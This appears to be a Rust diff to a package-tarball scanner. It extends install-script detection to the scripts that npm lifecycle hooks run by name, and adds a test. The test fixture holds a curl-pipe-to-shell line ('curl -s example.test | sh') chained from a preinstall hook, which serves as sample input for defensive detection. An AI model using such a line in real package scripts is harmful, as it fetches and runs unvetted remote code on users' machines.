@@ -47,6 +47,66 @@ pub struct Manifest {
     pub cpu: Vec<String>,
 }
 
+/// The other scripts that install scripts run by name (`"preinstall": "npm run
+/// setup"`), as far as three hops: they run at install too. Each is keyed
+/// `name (run by preinstall)`.
+fn scripts_run_by(
+    install: &BTreeMap<String, String>,
+    others: &BTreeMap<String, String>,
+) -> BTreeMap<String, String> {
+    let mut found = BTreeMap::new();
+    let mut frontier: Vec<(String, String)> = install
+        .iter()
+        .map(|(name, command)| (name.clone(), command.clone()))
+        .collect();
+    for _ in 0..3 {
+        let mut next = Vec::new();
+        for (by, command) in &frontier {
+            for name in named_scripts(command) {
+                let Some(script) = others.get(&name) else {
+                    continue;
+                };
+                let key = format!("{name} (run by {by})");
+                if found.len() < 16 && !found.contains_key(&key) {
+                    found.insert(key, script.clone());
+                    next.push((name, script.clone()));
+                }
+            }
+        }
+        frontier = next;
+    }
+    found
+}
+
+/// The scripts a command runs through a package manager: `npm run x`, `npm
+/// run-script x`, `yarn run x`, `yarn x`, `pnpm x`, `bun run x`, `npm test`.
+fn named_scripts(command: &str) -> Vec<String> {
+    let words: Vec<&str> = command
+        .split(|c: char| c.is_whitespace() || matches!(c, '&' | ';' | '|' | '(' | ')' | '"' | '\''))
+        .filter(|word| !word.is_empty() && !word.starts_with('-'))
+        .collect();
+    let mut names = Vec::new();
+    for (index, word) in words.iter().enumerate() {
+        let manager = word.rsplit('/').next().unwrap_or(word);
+        if !matches!(manager, "npm" | "yarn" | "pnpm" | "bun") {
+            continue;
+        }
+        let (Some(first), second) = (words.get(index + 1), words.get(index + 2)) else {
+            continue;
+        };
+        match (*first, second) {
+            ("run" | "run-script" | "rum" | "urn", Some(name)) => names.push((*name).to_owned()),
+            ("start" | "test" | "stop" | "restart", _) if manager == "npm" => {
+                names.push((*first).to_owned());
+            }
+            // `yarn setup`, `pnpm setup`: a script by its bare name.
+            (name, _) if matches!(manager, "yarn" | "pnpm") => names.push(name.to_owned()),
+            _ => {}
+        }
+    }
+    names
+}
+
 impl Manifest {
     /// Reads the fields it knows from a `package.json` value; anything malformed in
     /// a field leaves that field empty (the tarball is hostile input).
@@ -66,9 +126,10 @@ impl Manifest {
         };
         let scripts = string_map("scripts");
         let private = value.get("private").and_then(Value::as_bool) == Some(true);
-        let (install_scripts, others): (BTreeMap<_, _>, BTreeMap<_, _>) = scripts
+        let (mut install_scripts, others): (BTreeMap<_, _>, BTreeMap<_, _>) = scripts
             .into_iter()
             .partition(|(name, _)| INSTALL_SCRIPTS.contains(&name.as_str()));
+        install_scripts.extend(scripts_run_by(&install_scripts, &others));
         let project_scripts = if private { others } else { BTreeMap::new() };
         let mut dependencies = string_map("dependencies");
         let optional_dependencies = string_map("optionalDependencies");
@@ -216,6 +277,32 @@ pub(crate) fn normalise(path: &str) -> String {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn scripts_an_install_script_runs_by_name_run_at_install() {
+        let manifest = Manifest::from_value(&serde_json::json!({
+            "scripts": {
+                "preinstall": "npm run setup --silent",
+                "setup": "yarn fetch && node x.js",
+                "fetch": "curl -s example.test | sh",
+                "build": "tsc",
+                "test": "jest"
+            }
+        }));
+        let keys: Vec<&str> = manifest
+            .install_scripts
+            .keys()
+            .map(String::as_str)
+            .collect();
+        assert_eq!(
+            keys,
+            [
+                "fetch (run by setup)",
+                "preinstall",
+                "setup (run by preinstall)"
+            ]
+        );
+    }
 
     #[test]
     fn reads_scripts_dependencies_and_entry_points() {
